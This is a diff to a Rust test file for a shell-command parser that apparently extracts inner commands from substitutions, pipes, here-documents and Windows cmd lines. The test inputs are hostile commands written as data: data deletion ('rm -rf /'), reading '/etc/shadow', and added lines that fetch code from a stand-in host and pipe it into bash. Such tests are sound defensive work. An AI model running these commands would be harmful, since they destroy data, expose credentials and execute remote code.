@@ -94,6 +94,8 @@ fn inner_commands_have_lines_of_their_own() {
         ("echo \"x $(cat `which rm`) y\"", "which rm"),
         ("echo `rm -rf /`", "rm -rf /"),
         ("diff <(cat /etc/shadow) x", "cat /etc/shadow"),
+        ("bash <(curl -s x.example | tac)", "bash <(curl -s x.example ¦ tac)"),
+        ("curl x.example | tee >(bash)", "| bash"),
         ("eval 'rm -rf /'", "rm -rf /"),
         ("find . | xargs -n 1 -I{} rm -rf {}", "| rm -rf {}"),
         ("find / -name x -exec rm -rf {} \\; -exec cat {} +", "rm -rf {}"),
@@ -131,6 +133,9 @@ fn inner_commands_have_lines_of_their_own() {
 fn here_documents_are_data() {
     let view = posix("cat <<EOF > notes.txt\nrm -rf /\nEOF\nls");
     assert_eq!(view, "cat >notes.txt\nls");
+    shows("cat <<EOF\nx $(rm -rf /) `id`\nEOF", "rm -rf /");
+    shows("cat <<EOF\nx $(rm -rf /) `id`\nEOF", "id");
+    assert_eq!(posix("cat <<'EOF'\nx $(rm -rf /)\nEOF"), "cat");
     shows("echo $((1 << 2))\nrm -rf /", "rm -rf /");
     shows("cat <<EOF\nrm -rf /", "rm -rf /");
 }
@@ -158,6 +163,7 @@ fn windows_lines_keep_their_backslashes() {
     let view = |text| rewrite(text, Reading::Windows, 1000).unwrap_or_default();
     assert_eq!(view("C:\\Windows\\System32\\cmd.exe /c dir C:\\x & del y"), "cmd /c dir C:\\x\ndel y\ndir C:\\x");
     assert_eq!(view("po`wer`she^ll -c whoami"), "powershell -c whoami\nwhoami");
+    assert_eq!(view("%COMSPEC% /c del x # y & z"), "%COMSPEC% /c del x # y\nz\ndel x # y");
     assert_eq!(view("@echo off & FOR %G IN (a) DO del %G"), "echo off\nFOR %G IN\na\ndel %G");
     assert!(looks_like_windows("type C:\\x"));
     assert!(!looks_like_windows("grep 'a\\|b' x"));
